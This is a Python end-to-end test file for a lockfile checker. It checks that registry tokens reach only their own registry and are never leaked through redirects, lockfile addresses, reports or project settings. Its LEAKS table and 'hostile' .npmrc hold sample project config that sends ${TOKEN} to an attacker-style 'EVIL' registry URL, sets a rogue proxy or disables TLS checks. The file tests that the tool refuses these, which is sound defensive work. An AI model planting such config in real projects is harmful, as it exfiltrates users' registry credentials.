"""Which registries a check asks, and with which secrets: the user's, whatever the project says."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from tests.e2e.checking import (
    POLICY,
    User,
    Work,
    entry,
    make_user,
    npm,
    rules,
    unknown,
    user,
    work,
)
from tests.registry import Registry, faults

from pratique.errors import Exit

__all__ = ["user", "work"]

SECRET = "do-not-tell-4711"
CORP = "corp-only-0815"


@pytest.fixture
def other() -> Iterator[Registry]:
    """A second registry, on another port: whose requests would be a leak."""
    with Registry() as started:
        yield started


def place(url: str) -> str:
    return url.partition(":")[2]


def token(url: str, secret: str = SECRET) -> str:
    return f"{place(url)}:_authToken={secret}"


def files(registry: Registry, *names: str) -> dict[str, str]:
    """A project that locks 1.0.0 of each, without saying where it comes from."""
    for name in names:
        if name not in registry.shelves:
            registry.publish(name, "1.0.0")
    return npm(
        {name: entry(registry, registry.release(name, "1.0.0"), resolved=None) for name in names}
    )


# -- secrets ---------------------------------------------------------------------------------------


def test_the_users_token_opens_the_users_registry(
    registry: Registry, user: User, work: Work
) -> None:
    registry.protect("*", SECRET)
    user.npmrc(f"registry={registry.url}", token(registry.url))
    work.write(files(registry, "steady"))
    assert user.check(work.folder).exit is Exit.ALLOWED
    assert registry.credentials == {f"Bearer {SECRET}"}


def test_each_registry_is_shown_its_own_token_only(
    registry: Registry, other: Registry, user: User, work: Work
) -> None:
    other.publish("@corp/tool", "1.0.0")
    steady = files(registry, "steady", "@corp/tool")
    released = other.release("@corp/tool", "1.0.0")
    steady |= npm(
        {
            "steady": entry(registry, registry.release("steady", "1.0.0"), resolved=None),
            "@corp/tool": entry(other, released, resolved=None),
        }
    )
    registry.forget()
    user.npmrc(
        f"registry={registry.url}",
        f"@corp:registry={other.url}",
        token(registry.url),
        token(other.url, CORP),
    )
    work.write(steady)
    assert user.check(work.folder).exit is Exit.ALLOWED
    assert registry.credentials == {f"Bearer {SECRET}"}
    assert other.credentials == {f"Bearer {CORP}"}
    assert registry.asked("@corp*") == []
    assert other.asked("steady*") == []


def test_a_token_for_one_path_is_not_shown_at_another_of_the_same_host(
    user: User, work: Work
) -> None:
    with Registry(prefix="/npm/") as registry:
        work.write(files(registry, "steady"))
        host = registry.url.removesuffix("npm/")
        user.npmrc(f"registry={registry.url}", token(f"{host}other/"), token(f"{host}npm-2/"))
        assert user.check(work.folder).exit is Exit.ALLOWED
        assert registry.credentials == set()


@pytest.mark.parametrize("where", ["another port", "another name", "another path"])
def test_a_redirect_does_not_take_the_token_along(
    where: str, other: Registry, user: User, work: Work
) -> None:
    with Registry(prefix="/npm/") as registry:
        work.write(files(registry, "steady"))
        other.publish("steady", "1.0.0")
        bases = {
            "another port": other.url,
            "another name": registry.other_url.replace("/npm/", "/elsewhere/"),
            "another path": registry.url.replace("/npm/", "/elsewhere/"),
        }
        registry.fault(faults.redirect(bases[where] + "steady/1.0.0"), package="steady")
        user.npmrc(f"registry={registry.url}", token(registry.url))
        user.check(work.folder)
        seen = [one for one in registry.requests if one.path.startswith("/elsewhere/")]
        seen += other.requests
        assert seen, "the redirect was followed"
        assert {one.token for one in seen} == {None}


def test_a_locked_address_is_never_contacted(
    registry: Registry, other: Registry, user: User, work: Work
) -> None:
    """Binding is by name: whoever edits a lockfile does not learn who checks it."""
    release = registry.publish("steady", "1.0.0")
    work.write(npm({"steady": entry(registry, release, resolved=f"{other.url}{release.path}")}))
    user.npmrc(f"registry={registry.url}", token(registry.url), token(other.url, CORP))
    assert user.check(work.folder).exit is Exit.BLOCKED
    assert other.requests == []


def test_no_report_and_no_error_shows_a_secret(registry: Registry, user: User, work: Work) -> None:
    registry.protect("*", "another-token")
    user.npmrc(f"registry={registry.url}", token(registry.url))
    work.write({**files(registry, "steady"), ".npmrc": f"{token(registry.url, CORP)}\n"})
    for form in ("text", "json", "sarif", "markdown"):
        ran = user.run("check", ".", "--format", form, cwd=work.folder)
        assert ran.returncode == Exit.UNDECIDED
        assert SECRET not in ran.stdout + ran.stderr
        assert CORP not in ran.stdout + ran.stderr


# -- what a project may not say --------------------------------------------------------------------

# file -> lines; EVIL is the other registry's address, HERE its host and port.
LEAKS = {
    ".npmrc": "registry=EVIL${TOKEN}/\n@corp:registry=EVIL${TOKEN}/\n//HERE/:_authToken=${TOKEN}\n",
    ".yarnrc.yml": (
        'npmRegistryServer: "EVIL${TOKEN}/"\nnpmAuthToken: "${TOKEN}"\n'
        'npmScopes:\n  corp:\n    npmRegistryServer: "EVIL${TOKEN}/"\n'
    ),
    "bunfig.toml": '[install]\nregistry = { url = "EVIL$TOKEN/", token = "$TOKEN" }\n',
    "pnpm-workspace.yaml": 'registries:\n  default: "EVIL${TOKEN}/"\n  "@corp": "EVIL${TOKEN}/"\n',
}


def lines(text: str, other: Registry) -> str:
    return text.replace("EVIL", other.url).replace("HERE", urlsplit(other.url).netloc)


@pytest.mark.parametrize("file", LEAKS)
def test_a_variable_in_a_projects_file_is_not_expanded(
    file: str, registry: Registry, other: Registry, user: User, work: Work
) -> None:
    user.variables["TOKEN"] = SECRET
    user.npmrc(f"registry={registry.url}", token(registry.url))
    names = ("steady", "@corp/tool")
    work.write({**files(registry, *names), file: lines(LEAKS[file], other)})
    report = user.check(work.folder)
    assert other.requests == []
    assert not any(SECRET in one.path for one in registry.requests)
    assert report.unknowns == ()
    ran = user.run("check", ".", cwd=work.folder)
    assert SECRET not in ran.stdout + ran.stderr


@pytest.mark.parametrize("file", [".npmrc"])
def test_a_variable_in_a_projects_file_is_reported(
    file: str, registry: Registry, other: Registry, user: User, work: Work
) -> None:
    work.write({**files(registry, "steady"), file: lines(LEAKS[file], other)})
    assert set(rules(user.check(work.folder))) == {"lockfile/refused-setting"}


def test_a_project_chooses_neither_a_proxy_nor_authorities(
    secured: Registry, other: Registry, tmp_path: Path, work: Work
) -> None:
    hostile = (
        f"proxy={other.url}\nhttps-proxy={other.url}\ncafile={secured.ca}\nstrict-ssl=false\n"
        f"//{urlsplit(secured.url).netloc}/:_authToken={SECRET}\n"
    )
    work.write({**files(secured, "steady"), ".npmrc": hostile})
    user = make_user(tmp_path / "other-home", f"registry={secured.url}")
    report = user.check(work.folder)
    assert report.exit is Exit.UNDECIDED
    assert {why for _, _, why in unknown(report)} == {"failed"}
    assert set(rules(report)) == {"lockfile/refused-setting"}
    assert len([one for one in rules(report) if one == "lockfile/refused-setting"]) == 5
    assert other.requests == secured.requests == []
    user.npmrc(f"registry={secured.url}", f"cafile={secured.ca}")
    assert user.check(work.folder).unknowns == ()
    assert other.requests == []
    assert secured.credentials == set()


# name -> (the user's further lines, the project's line, whether it is another one)
NAMED = {
    "another host": ("", "registry=https://elsewhere.example/", True),
    "another path of the same host": ("", "registry=HERE/else/", True),
    "the same": ("", "registry=HERE/npm/", False),
    "the same, written otherwise": ("", "registry=HERE/npm", False),
    "a scope's at another host": ("", "@corp:registry=https://elsewhere.example/", True),
    "a scope's, moved to the default": (
        "@corp:registry=https://corp.example/",
        "@corp:registry=HERE/npm/",
        True,
    ),
    "a scope's own": (
        "@corp:registry=https://corp.example/",
        "@corp:registry=https://corp.example/",
        False,
    ),
    "a host that the policy calls the default": ("", "registry=https://alias.example/", False),
}


@pytest.mark.parametrize("name", NAMED)
def test_a_projects_registry_that_is_not_the_users_is_reported_and_not_asked(
    name: str, user: User, work: Work
) -> None:
    more, line, differs = NAMED[name]
    with Registry(prefix="/npm/") as registry:
        here = registry.url.removesuffix("/npm/")
        user.npmrc(f"registry={registry.url}", *filter(None, [more]))
        policy = '[hosts]\n"alias.example" = "default"\n'
        project = {".npmrc": line.replace("HERE", here) + "\n", POLICY: policy}
        work.write({**files(registry, "steady"), **project})
        report = user.check(work.folder)
        assert rules(report) == (["lockfile/project-registry"] if differs else [])
        assert report.unknowns == ()
        assert all(one.path.startswith("/npm/") for one in registry.requests)


# -- which registry --------------------------------------------------------------------------------


def test_the_policy_goes_before_the_environment_and_that_before_the_users_file(
    registry: Registry, work: Work, user: User
) -> None:
    with Registry() as by_variable, Registry() as by_policy:
        work.write(files(registry, "steady"))
        for one in (by_variable, by_policy):
            one.publish("steady", "1.0.0")
        three = (registry, by_variable, by_policy)

        def asked() -> list[bool]:
            for one in three:
                one.forget()
            assert user.check(work.folder, revalidate=True).exit is Exit.ALLOWED
            return [bool(one.requests) for one in three]

        assert asked() == [True, False, False]
        user.variables["npm_config_registry"] = by_variable.url
        assert asked() == [False, True, False]
        work.write({POLICY: f'[registries.default]\nurl = "{by_policy.url}"\n'})
        assert asked() == [False, False, True]


def test_a_scope_of_the_policy_is_asked_with_the_users_token_for_that_place(
    registry: Registry, other: Registry, user: User, work: Work
) -> None:
    other.publish("@corp/tool", "1.0.0")
    user.npmrc(f"registry={registry.url}", token(registry.url), token(other.url, CORP))
    released = other.release("@corp/tool", "1.0.0")
    work.write(npm({"@corp/tool": entry(other, released, resolved=None)}))
    work.write({POLICY: f'[registries.corp]\nurl = "{other.url}"\nscopes = ["@corp"]\n'})
    assert user.check(work.folder).exit is Exit.ALLOWED
    assert other.credentials == {f"Bearer {CORP}"}
    assert registry.requests == []


def test_nothing_configured_and_no_npm_is_an_error_with_the_line_to_add(
    registry: Registry, work: Work, user: User, tmp_path: Path
) -> None:
    work.write({**files(registry, "steady"), ".npmrc": f"registry={registry.url}\n"})
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "git").symlink_to(str(shutil.which("git")))
    user.npmrc()
    user.variables["PATH"] = str(tools)
    ran = user.run("check", ".", cwd=work.folder)
    assert ran.returncode == Exit.USAGE
    assert "No registry is configured" in ran.stderr
    assert "registry=ADDRESS" in ran.stderr
    assert "~/.npmrc" in ran.stderr
    assert registry.requests == []
    user.npmrc(f"registry={registry.url}")
    assert user.run("check", ".", cwd=work.folder).returncode == Exit.ALLOWED


def test_npm_is_asked_where_nothing_is_configured(
    registry: Registry, work: Work, user: User, tmp_path: Path
) -> None:
    work.write({**files(registry, "steady"), ".npmrc": "registry=https://hostile.example/\n"})
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "git").symlink_to(str(shutil.which("git")))
    (tools / "npm").write_text(f'#!/bin/sh\n[ -e .npmrc ] || echo "{registry.url}"\n')
    (tools / "npm").chmod(0o755)
    user.npmrc()
    user.variables["PATH"] = f"{tools}:/usr/bin:/bin"
    ran = user.run("check", ".", "--format", "json", cwd=work.folder)
    assert [one["rule"] for one in json.loads(ran.stdout)["findings"]] == [
        "lockfile/project-registry"
    ]
    assert registry.asked("steady*")
